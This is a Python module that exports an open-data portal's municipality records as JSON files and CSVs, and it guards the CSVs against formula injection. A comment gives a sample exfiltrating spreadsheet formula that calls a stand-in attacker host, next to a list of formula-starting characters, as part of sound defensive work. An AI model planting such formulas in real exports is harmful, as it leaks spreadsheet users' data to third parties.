"""Open data: the whole data set as JSON, one CSV per published record kind, one JSON file per record.

Which kinds are published is declared in data/kinds.py (RecordKind.published); the columns are derived from each
kind's model class: nested records become dotted columns (partner.as_written), lists are joined with " | ",
citations as "source:table".
"""
from __future__ import annotations

import csv
import datetime
import dataclasses
import functools
import io
import json
import typing

from ..accountability import Lead
from ..data import kinds, model
from ..data.index import PortalIndex
from ..plan import urls

LIST_SEPARATOR = " | "
# A spreadsheet runs a cell starting with one of these as a formula (=HYPERLINK("https://evil.example/?"&A1)).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# Excel opens a CSV without a byte order mark in the locale's code page: "Bağcılar" came out garbled.
BOM = "\ufeff"


def _plain(value):
    """Dataclasses -> dicts without empty values, tuples -> lists (stable key order: model order)."""
    if dataclasses.is_dataclass(value):
        out = {}
        for f in dataclasses.fields(value):
            if not f.init:
                continue
            item = _plain(getattr(value, f.name))
            if item not in (None, [], {}):
                out[f.name] = item
        return out
    if isinstance(value, (list, tuple)):
        return [_plain(v) for v in value]
    return value


def _compact(obj) -> str:
    # Compact (no indentation, no spaces after separators): the same data and fields in the same order,
    # ~30 % fewer bytes in thousands of files; UTF-8 as written. Browsers and `python -m json.tool` indent it.
    return json.dumps(obj, ensure_ascii=False, separators=(",", ":"))


def _dump(obj) -> str:
    """An open data JSON file: compact, one line ending in a newline."""
    return _compact(obj) + "\n"


def record_json(index: PortalIndex, kind: str, record) -> dict:
    district = index.district_of[record.id]
    return {"record_type": kinds.BY_KEY[kind].name, "district": district.slug,
            "district_name": district.name, **_plain(record)}


class ExportCache:
    """`mkdocs serve` only: the open data's part of each municipality (its JSON) and of each record (its CSV
    row), kept from the previous build by object. The data files' cache (data/file_cache.py) hands over an
    unchanged file's municipality and records as the very same objects, so only an edited file's parts are
    made again; what the files are assembled from is the same, and so are the files."""

    def __init__(self) -> None:
        self._parts: dict[tuple[str, int], tuple[object, typing.Any]] = {}
        self._next: dict[tuple[str, int], tuple[object, typing.Any]] = {}

    def part(self, what: str, obj: object, make: typing.Callable[[], typing.Any]) -> typing.Any:
        key = (what, id(obj))
        kept = self._parts.get(key)
        if kept is None or kept[0] is not obj:
            kept = (obj, make())
        self._next[key] = kept
        return kept[1]

    def end(self) -> None:
        """An export is done: the parts it used are kept for the next, the others dropped."""
        self._parts, self._next = self._next, {}


def _part(cache: ExportCache | None, what: str, obj: object, make: typing.Callable[[], typing.Any]) -> typing.Any:
    """One municipality's or record's part of a file: kept from the previous build under serve, else made."""
    return make() if cache is None else cache.part(what, obj, make)


def _district_json(d: model.District) -> dict:
    return {"slug": d.slug, "name": d.name,
            **{key: _plain(getattr(d, key)) for key in ("website", "contact", "coverage")
               if getattr(d, key) is not None},
            # Every kind's list: a published kind's always, another's when the municipality has any.
            **{kind.key: [_plain(r) for r in getattr(d, kind.key)] for kind in kinds.KINDS
               if kind.published or getattr(d, kind.key)}}


def _shared(index: PortalIndex) -> dict:
    portal = index.portal
    return {
        "sources": [_plain(s) for s in portal.sources],
        "networks": [_plain(n) for n in portal.networks],
        "programmes": [_plain(p) for p in portal.programmes],
        "countries": [_plain(c) for c in portal.countries],
    }


def dataset(index: PortalIndex) -> dict:
    return {"districts": [_district_json(d) for d in index.portal.districts], **_shared(index)}


def _columns(cls, prefix: str = "") -> list[tuple[str, tuple[str, ...]]]:
    hints = typing.get_type_hints(cls, include_extras=True)
    cols = []
    for f in dataclasses.fields(cls):
        tp = hints[f.name]
        if typing.get_origin(tp) is typing.Union:
            tp = next(a for a in typing.get_args(tp) if a is not type(None))
        if dataclasses.is_dataclass(tp):
            cols += [(f"{prefix}{f.name}.{name}", (f.name, *path)) for name, path in _columns(tp)]
        else:
            cols.append((f"{prefix}{f.name}", (f.name,)))
    return cols


def _cell(value) -> str:
    if value is None:
        return ""
    if isinstance(value, (list, tuple)):
        # Each value once: a record citing one source twice (two quotes) lists its id once.
        return LIST_SEPARATOR.join(dict.fromkeys(_cell(v) for v in value))
    if isinstance(value, model.Citation):
        return f"{value.source}:{value.table}" if value.table else value.source
    if dataclasses.is_dataclass(value):
        return " ".join(_cell(getattr(value, f.name)) for f in dataclasses.fields(value) if getattr(value, f.name))
    return str(value)


def _inert(cell: str) -> str:
    """OWASP's rule against CSV injection: a cell that would start a formula gets a leading apostrophe,
    which spreadsheets show as text. Only the CSV files: the JSON keeps the data as written."""
    return "'" + cell if cell.startswith(FORMULA_START) else cell


def _row(columns: list[tuple[str, tuple[str, ...]]], record: object) -> list[str]:
    row = []
    for _, path in columns:
        value = record
        for part in path:
            value = getattr(value, part) if value is not None else None
        row.append(_inert(_cell(value)))
    return row


def _table(cls, records: list[tuple[str | None, object]], cache: ExportCache | None = None) -> str:
    """A CSV of records of model class `cls` ((district slug or None, record) pairs), with only the columns
    that hold a value somewhere: a column empty in every row says nothing."""
    columns = _columns(cls)
    rows = [(district, _part(cache, f"csv:{cls.__name__}", record, functools.partial(_row, columns, record)))
            for district, record in records]
    keep = [i for i in range(len(columns)) if any(row[i] for _, row in rows)]
    with_district = any(district is not None for district, _ in records)
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([*(["district"] if with_district else []), *[columns[i][0] for i in keep]])
    for district, row in rows:
        writer.writerow([*([district] if with_district else []), *[row[i] for i in keep]])
    return out.getvalue()


def csv_text(index: PortalIndex, kind: str, cache: ExportCache | None = None) -> str:
    return _table(kinds.BY_KEY[kind].cls, [(d.slug, r) for d in index.portal.districts for r in getattr(d, kind)],
                  cache)


def sources_csv(index: PortalIndex, cache: ExportCache | None = None) -> str:
    """Every source, so that the source ids in the other CSVs resolve."""
    return _table(model.Source, [(None, s) for s in index.portal.sources], cache)


def leads_files(found: list[Lead], today: datetime.date) -> dict[str, str]:
    """The leads page's questions (accountability.leads, found once per build by the plan) as open data."""
    rows = [{"kind": lead.kind, "district": lead.district.slug,
             "agreement": lead.agreement.id if lead.agreement else "",
             "claim": lead.claim.what_en if lead.claim else "",
             "claimed": lead.claim.count if lead.claim and lead.claim.count else "",
             "named": lead.named if lead.claim else "", "detail": lead.detail}
            for lead in found]
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["kind", "district", "agreement", "claim", "claimed", "named", "detail"])
    for row in rows:
        writer.writerow([_inert(str(v)) for v in row.values()])
    return {"leads.json": _dump({"as_of": today.isoformat(), "leads": rows}),
            "leads.csv": BOM + out.getvalue()}


def _district_text(district: model.District) -> str:
    return _compact(_district_json(district))


_DISTRICTS_HEAD = '{"districts":[]'


def _portal_json(index: PortalIndex, parts: list[str]) -> str:
    """portal.json as _dump(dataset()) gives it, assembled from each municipality's compact dump: the file is
    the municipalities' list first, then the shared reference data."""
    rest = _compact({"districts": [], **_shared(index)})
    assert rest.startswith(_DISTRICTS_HEAD)
    return '{"districts":[' + ",".join(parts) + "]" + rest[len(_DISTRICTS_HEAD):] + "\n"


def export_files(index: PortalIndex, per_record: bool = True, cache: ExportCache | None = None) -> dict[str, str]:
    """Relative path -> text, for everything published under data/ in the site; without the one JSON file
    per record and per municipality if not per_record (`mkdocs serve`: thousands of files after every edit).
    `cache`: `mkdocs serve`'s parts of the unchanged municipalities and records (ExportCache)."""
    districts = index.portal.districts
    # Each municipality dumped once: its part of portal.json is also its own file.
    parts = [_part(cache, "json", d, functools.partial(_district_text, d)) for d in districts]
    files = {"portal.json": _portal_json(index, parts)}
    for district, part in zip(districts, parts) if per_record else ():
        files[urls.record_json("municipalities", district.slug)] = part + "\n"
    files["sources.csv"] = BOM + sources_csv(index, cache)
    for kind in kinds.PUBLISHED:
        files[f"{kind.key}.csv"] = BOM + csv_text(index, kind.key, cache)
        for record_id, record in index.records[kind.key].items() if per_record else ():
            files[urls.record_json(kind.key, record_id)] = _dump(record_json(index, kind.key, record))
    if cache is not None:
        cache.end()
    return files
